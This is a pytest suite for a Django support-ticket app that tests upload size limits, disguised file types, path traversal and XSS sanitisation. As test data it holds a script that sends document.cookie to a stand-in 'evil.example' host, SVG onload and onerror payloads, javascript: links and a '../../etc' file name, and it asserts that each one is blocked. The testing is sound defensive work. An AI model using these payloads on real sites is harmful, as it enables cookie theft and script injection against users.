"""What customers really send: too-big files, files that lie about themselves, script."""

import pytest

from tests import factories, helpers
from tests.helpers import JAVASCRIPT_HREF, script_blocks, text
from tickets.models import Attachment, Priority, Status, Ticket, TicketType

pytestmark = pytest.mark.django_db

SUBJECT = "Waybill printout is cut off"
BODY = "The last column is missing on A4 since the update."


def _file(client, *files, subject=SUBJECT, body=BODY):
    return client.post(
        "/tickets/new/",
        {
            "type": TicketType.INCIDENT,
            "priority": Priority.HIGH,
            "subject": subject,
            "body": body,
            "files": list(files),
        },
    )


def _stored_files(settings):
    media = settings.MEDIA_ROOT
    return [p for p in media.rglob("*") if p.is_file()] if media.exists() else []


def test_an_oversize_upload_is_refused_by_name_and_limit_and_the_form_is_kept(
    client, customer, settings
):
    settings.ATTACHMENT_MAX_BYTES = 1024
    client.force_login(customer)

    response = _file(client, helpers.upload("invoice-run.log", b"x" * 4096, "text/plain"))

    page = text(response)
    assert response.status_code in (200, 400)
    assert "“invoice-run.log” is 4.0\xa0KB; files may be at most 1.0\xa0KB." in page
    assert f'value="{SUBJECT}"' in page
    assert f"{BODY}</textarea>" in page
    assert not Ticket.objects.exists()
    assert _stored_files(settings) == []


def test_an_oversize_upload_on_a_comment_is_refused_and_the_comment_kept(
    client, ticket, customer, settings
):
    settings.ATTACHMENT_MAX_BYTES = 1024
    client.force_login(customer)
    response = client.post(
        f"/tickets/{ticket.number}/comment/",
        {
            "body": "Here is the full log.",
            "expected_status": Status.NEW,
            "files": [helpers.upload("full.log", b"y" * 2048, "text/plain")],
        },
    )
    page = text(response)
    assert response.status_code == 400
    assert "“full.log” is 2.0\xa0KB; files may be at most 1.0\xa0KB." in page
    assert "Here is the full log.</textarea>" in page
    assert not ticket.comments.exists()


EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 44
    + b"\x80\x00\x00\x00"
    + b"\x00" * 200
)
HTML = b"<!DOCTYPE html><html><body><script>document.location='https://evil.example/'+document.cookie</script></body></html>"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (HTML, "“screenshot.png” is not a file type we accept."),
        (EXE, "“screenshot.png” is not a file type we accept."),
        (
            b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            "“screenshot.png” is not a file type we accept.",
        ),
        (
            helpers.SAMPLE_LOG.encode(),
            "“screenshot.png” does not contain what its name says: its content is text/plain.",
        ),
    ],
    ids=["html", "exe", "svg", "log-named-png"],
)
def test_a_disguised_upload_is_refused_with_a_clear_message_and_nothing_is_stored(
    client, customer, settings, content, message
):
    client.force_login(customer)
    response = _file(client, helpers.upload("screenshot.png", content, "image/png"))
    page = text(response)
    assert response.status_code in (200, 400)
    assert message in page
    assert f'value="{SUBJECT}"' in page
    assert not Ticket.objects.exists()
    assert not Attachment.objects.exists()
    assert _stored_files(settings) == []


def test_a_real_screenshot_and_log_are_accepted(client, customer, settings):
    client.force_login(customer)
    response = _file(client, helpers.screenshot_upload(), helpers.log_upload())
    ticket = Ticket.objects.get()
    assert response["Location"] == f"/tickets/{ticket.number}/"
    assert sorted(ticket.attachments.values_list("original_name", "content_type")) == [
        ("screenshot.png", "image/png"),
        ("server.log", "text/plain"),
    ]
    assert len(_stored_files(settings)) == 2


def test_an_uploaded_file_name_cannot_climb_out_of_the_media_directory(client, customer, settings):
    client.force_login(customer)
    _file(client, helpers.upload("../../etc/evil.log", helpers.log_bytes(), "text/plain"))
    attachment = Attachment.objects.get()
    assert attachment.original_name == "evil.log"
    stored = _stored_files(settings)
    assert len(stored) == 1
    assert stored[0].is_relative_to(settings.MEDIA_ROOT)


HOSTILE_MARKDOWN = """\
[open the report](javascript:alert('xss-link'))
[mixed case](JaVaScRiPt:alert('xss-link2'))
<a href="javascript:alert('xss-raw-a')">raw link</a>

<script>alert('xss-body')</script>

<img src=x onerror="alert('xss-img')">
<iframe src="https://evil.example/"></iframe>

**Steps** to reproduce: see [the manual](https://docs.example.com/manual).
"""


def _assert_markdown_is_harmless(page: str):
    assert not JAVASCRIPT_HREF.search(page)
    assert "alert('xss" not in page
    for block in script_blocks(page):
        assert "xss" not in block
    assert "onerror" not in page
    assert "<iframe" not in page
    assert "<strong>Steps</strong>" in page
    assert 'href="https://docs.example.com/manual"' in page


def test_markdown_in_a_ticket_body_renders_without_script_or_javascript_links(client, customer):
    ticket = factories.TicketFactory(requester=customer, body=HOSTILE_MARKDOWN)
    client.force_login(customer)
    _assert_markdown_is_harmless(text(client.get(f"/tickets/{ticket.number}/")))


def test_markdown_in_a_comment_renders_without_script_or_javascript_links(
    client, ticket, customer, agent
):
    client.force_login(agent)
    client.post(
        f"/tickets/{ticket.number}/comment/",
        {"body": HOSTILE_MARKDOWN, "expected_status": Status.NEW},
    )
    client.force_login(customer)
    _assert_markdown_is_harmless(text(client.get(f"/tickets/{ticket.number}/")))


SCRIPT_SUBJECT = "<script>alert('xss-subject')</script> Login fails"
ESCAPED_SUBJECT = "&lt;script&gt;alert(&#x27;xss-subject&#x27;)&lt;/script&gt; Login fails"


@pytest.mark.parametrize("path", ["/tickets/{number}/", "/tickets/", "/"])
def test_a_script_in_the_subject_is_shown_as_text(client, customer, path):
    ticket = factories.TicketFactory(requester=customer, subject=SCRIPT_SUBJECT)
    client.force_login(customer)
    page = text(client.get(path.format(number=ticket.number)))
    assert ESCAPED_SUBJECT in page
    assert "<script>alert(" not in page
    for block in script_blocks(page):
        assert "xss" not in block


def test_pasted_html_is_kept_as_its_text_and_the_customer_is_told(client, customer):
    client.force_login(customer)
    pasted = ('<div style="font-family:Arial">Export <b>fails</b> at 10:00<br>'
              '<p>Steps:</p><ul><li>open &amp; run</li></ul><script>alert(1)</script></div>')

    response = client.post("/tickets/new/", {
        "type": TicketType.CONSULTATION, "subject": "Export fails", "body": pasted,
    }, follow=True)

    ticket = Ticket.objects.get()
    assert ticket.body == "Export fails at 10:00\nSteps:\nopen & run"
    assert "kept as plain text" in text(response)


def test_markdown_with_a_less_than_sign_is_left_alone(client, customer):
    client.force_login(customer)
    client.post("/tickets/new/", {
        "type": TicketType.CONSULTATION, "subject": "Totals", "body": "5 < 7 and **bold**",
    })
    assert Ticket.objects.get().body == "5 < 7 and **bold**"
